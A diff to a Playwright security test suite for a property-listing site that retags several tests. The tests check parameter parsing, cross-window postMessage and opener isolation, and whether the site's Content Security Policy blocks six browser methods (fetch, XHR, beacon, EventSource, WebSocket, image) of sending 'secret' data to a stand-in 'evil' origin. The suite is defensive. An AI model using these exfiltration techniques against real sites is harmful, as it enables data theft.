@@ -65,7 +65,7 @@ test('W01 XSS payloads in three parameters do nothing as served, hydrated or aft
   seen(`${PAYLOADS.length} texts, 0 ran`);
 });
 
-test.describe('hostile addresses and windows', { tag: '@core' }, () => {
+test.describe('hostile addresses and windows', () => {
   test('W12 no address, stored text or body pollutes Object.prototype', async ({ page }) => {
     const isClean = () => page.evaluate(() => Reflect.get({}, 'x') === undefined);
     for (const query of POLLUTIONS) {
@@ -92,100 +92,109 @@ test.describe('hostile addresses and windows', { tag: '@core' }, () => {
     seen('objects as before; bodies answered 400');
   });
 
-  test('W13 the first of repeated parameters counts, and brackets mean nothing', async () => {
-    const heading = async (query: string) => {
-      const asked = await sendRaw(`/search?${query}`);
-      // Repeated and empty parameters are answered with the address that stands for them.
-      const { status, body } =
-        asked.status === 302 ? await sendRaw(String(asked.headers['location'])) : asked;
-      expect(status, query).toBe(200);
-      return /<h1[^>]*>(.*?)<\/h1>/s.exec(body)?.[1]?.replace(/<[^>]*>/g, '');
-    };
-    expect(await heading('city=Pune&city=Delhi')).toBe('Properties for Sale in Pune');
-    expect(await heading('type=rent&type=buy&location=Pune&location=')).toBe('Rental Properties in Pune');
-    for (const query of ['city[]=Pune', 'city[a]=Pune', 'city%5B%5D=Pune', 'city.a=Pune', 'city;=Pune'])
-      expect(await heading(query), query).toBe('Properties for Sale');
-    expect(await heading(Array.from({ length: 200 }, (_, index) => `city=${index}`).join('&'))).toBe(
-      'Properties for Sale in 0',
-    );
-  });
-
-  test('W15 W16 messages from other windows change nothing, and an opener cannot reach the page', async ({
-    page,
-    context,
-    baseURL,
-    evil,
-  }) => {
-    const junk = [
-      null,
-      7,
-      '{"type":"navigate","to":"//evil.example"}',
-      { type: 'account:signed-in', name: 'x' },
-    ];
-    evil.answer = `<title>evil</title><button onclick="opened=window.open('${baseURL}/about')">Open</button>`;
-    await page.goto(evil.origin);
-    const opening = context.waitForEvent('page');
-    await page.getByRole('button').click();
-    const site = await opening;
-    await hydrated(site);
-    const state = () =>
-      site.evaluate(() => [opener, document.title, location.href, localStorage.length, name] as const);
-    const before = await state();
-    expect(before[0]).toBeNull();
-    // The opener's reference is cut, so the page also sends the messages to itself.
-    expect(await page.evaluate('opened.closed')).toBe(true);
-    await page.evaluate((messages) => {
-      for (const one of messages) (Reflect.get(globalThis, 'opened') as Window).postMessage(one, '*');
-    }, junk);
-    await site.evaluate(async (messages) => {
-      for (const one of messages) window.postMessage(one, '*');
-      await new Promise((resolve) => setTimeout(resolve));
-    }, junk);
-    expect(await state()).toEqual(before);
-    await expect(site.getByRole('heading', { level: 1 })).toBeVisible();
-    seen('the opener has lost the window; nothing listens to messages');
-  });
-
-  test('O13 a malicious package cannot send data to another site', async ({ page, noise, evil }) => {
-    noise.allowed.push(/Content Security Policy|violates|csp$|ERR_BLOCKED_BY_CSP|Failed to fetch|WebSocket/i);
-    await open(page, '/');
-    const stopped = await page.evaluate(async (to) => {
-      const directives = new Set<string>();
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
-        directives.add(`${effectiveDirective} ${new URL(blockedURI).pathname.slice(1)}`),
-      );
-      const ways: Record<string, () => unknown> = {
-        fetch: () => fetch(`${to}/fetch`),
-        request: () => {
-          const request = new XMLHttpRequest();
-          request.open('POST', `${to}/request`);
-          request.send('secret');
-        },
-        beacon: () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
-        events: () => new EventSource(`${to}/events`),
-        socket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
-        picture: () => (new Image().src = `${to}/picture`),
+  test(
+    'W13 the first of repeated parameters counts, and brackets mean nothing',
+    { tag: '@core' },
+    async () => {
+      const heading = async (query: string) => {
+        const asked = await sendRaw(`/search?${query}`);
+        // Repeated and empty parameters are answered with the address that stands for them.
+        const { status, body } =
+          asked.status === 302 ? await sendRaw(String(asked.headers['location'])) : asked;
+        expect(status, query).toBe(200);
+        return /<h1[^>]*>(.*?)<\/h1>/s.exec(body)?.[1]?.replace(/<[^>]*>/g, '');
       };
-      for (const way of Object.values(ways))
-        await Promise.resolve()
-          .then(way)
-          .catch(() => undefined);
-      await new Promise<void>((resolve) => {
-        const look = () => (directives.size >= 6 ? resolve() : void setTimeout(look, 20));
-        look();
-      });
-      return [...directives].sort();
-    }, evil.origin);
-    expect(stopped).toEqual([
-      ...['beacon', 'events', 'fetch', 'request', 'socket'].map((way) => `connect-src ${way}`),
-      'img-src picture',
-    ]);
-    expect(evil.requested).toEqual([]);
-    // The other site is up: a request from outside the page reaches it.
-    expect(await (await page.request.get(`${evil.origin}/control`)).text()).toBe(evil.answer);
-    expect(evil.requested).toEqual(['/control']);
-    seen('six of six ways stopped by the policy; nothing arrived');
-  });
+      expect(await heading('city=Pune&city=Delhi')).toBe('Properties for Sale in Pune');
+      expect(await heading('type=rent&type=buy&location=Pune&location=')).toBe('Rental Properties in Pune');
+      for (const query of ['city[]=Pune', 'city[a]=Pune', 'city%5B%5D=Pune', 'city.a=Pune', 'city;=Pune'])
+        expect(await heading(query), query).toBe('Properties for Sale');
+      expect(await heading(Array.from({ length: 200 }, (_, index) => `city=${index}`).join('&'))).toBe(
+        'Properties for Sale in 0',
+      );
+    },
+  );
+
+  test(
+    'W15 W16 messages from other windows change nothing, and an opener cannot reach the page',
+    { tag: '@core' },
+    async ({ page, context, baseURL, evil }) => {
+      const junk = [
+        null,
+        7,
+        '{"type":"navigate","to":"//evil.example"}',
+        { type: 'account:signed-in', name: 'x' },
+      ];
+      evil.answer = `<title>evil</title><button onclick="opened=window.open('${baseURL}/about')">Open</button>`;
+      await page.goto(evil.origin);
+      const opening = context.waitForEvent('page');
+      await page.getByRole('button').click();
+      const site = await opening;
+      await hydrated(site);
+      const state = () =>
+        site.evaluate(() => [opener, document.title, location.href, localStorage.length, name] as const);
+      const before = await state();
+      expect(before[0]).toBeNull();
+      // The opener's reference is cut, so the page also sends the messages to itself.
+      expect(await page.evaluate('opened.closed')).toBe(true);
+      await page.evaluate((messages) => {
+        for (const one of messages) (Reflect.get(globalThis, 'opened') as Window).postMessage(one, '*');
+      }, junk);
+      await site.evaluate(async (messages) => {
+        for (const one of messages) window.postMessage(one, '*');
+        await new Promise((resolve) => setTimeout(resolve));
+      }, junk);
+      expect(await state()).toEqual(before);
+      await expect(site.getByRole('heading', { level: 1 })).toBeVisible();
+      seen('the opener has lost the window; nothing listens to messages');
+    },
+  );
+
+  test(
+    'O13 a malicious package cannot send data to another site',
+    { tag: '@core' },
+    async ({ page, noise, evil }) => {
+      noise.allowed.push(
+        /Content Security Policy|violates|csp$|ERR_BLOCKED_BY_CSP|Failed to fetch|WebSocket/i,
+      );
+      await open(page, '/');
+      const stopped = await page.evaluate(async (to) => {
+        const directives = new Set<string>();
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+          directives.add(`${effectiveDirective} ${new URL(blockedURI).pathname.slice(1)}`),
+        );
+        const ways: Record<string, () => unknown> = {
+          fetch: () => fetch(`${to}/fetch`),
+          request: () => {
+            const request = new XMLHttpRequest();
+            request.open('POST', `${to}/request`);
+            request.send('secret');
+          },
+          beacon: () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
+          events: () => new EventSource(`${to}/events`),
+          socket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
+          picture: () => (new Image().src = `${to}/picture`),
+        };
+        for (const way of Object.values(ways))
+          await Promise.resolve()
+            .then(way)
+            .catch(() => undefined);
+        await new Promise<void>((resolve) => {
+          const look = () => (directives.size >= 6 ? resolve() : void setTimeout(look, 20));
+          look();
+        });
+        return [...directives].sort();
+      }, evil.origin);
+      expect(stopped).toEqual([
+        ...['beacon', 'events', 'fetch', 'request', 'socket'].map((way) => `connect-src ${way}`),
+        'img-src picture',
+      ]);
+      expect(evil.requested).toEqual([]);
+      // The other site is up: a request from outside the page reaches it.
+      expect(await (await page.request.get(`${evil.origin}/control`)).text()).toBe(evil.answer);
+      expect(evil.requested).toEqual(['/control']);
+      seen('six of six ways stopped by the policy; nothing arrived');
+    },
+  );
 });
 
 test.describe('service workers', { tag: '@core' }, () => {
